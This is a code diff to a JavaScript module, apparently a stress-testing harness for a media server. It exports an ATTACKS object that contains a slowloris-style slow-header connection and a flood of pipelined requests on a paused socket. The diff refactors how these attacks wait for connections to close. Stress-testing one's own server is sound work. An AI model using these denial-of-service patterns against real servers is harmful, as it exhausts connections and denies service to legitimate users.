@@ -2,7 +2,6 @@
 
 import { randomBytes } from 'node:crypto';
 import dgram from 'node:dgram';
-import { once } from 'node:events';
 import { setTimeout as sleep } from 'node:timers/promises';
 
 import { Path, bindingRequest, credentials, sdp } from './media.mjs';
@@ -132,10 +131,9 @@ export const ATTACKS = {
       const connection = await tcp(url);
       connections.add(connection);
       connection.write('GET / HTTP/1.1\r\n');
-      while (!connection.destroyed) {
-        connection.write('x');
-        await Promise.race([sleep(100), once(connection, 'close')]);
-      }
+      const timer = setInterval(() => connection.write('x'), 100);
+      await connection.gone;
+      clearInterval(timer);
       connections.delete(connection);
     });
     return async () => {
@@ -150,7 +148,7 @@ export const ATTACKS = {
       connections.add(connection);
       connection.pause();
       connection.write('GET /call.js HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(200));
-      await once(connection, 'close');
+      await connection.gone;
       connections.delete(connection);
     });
     return async () => {
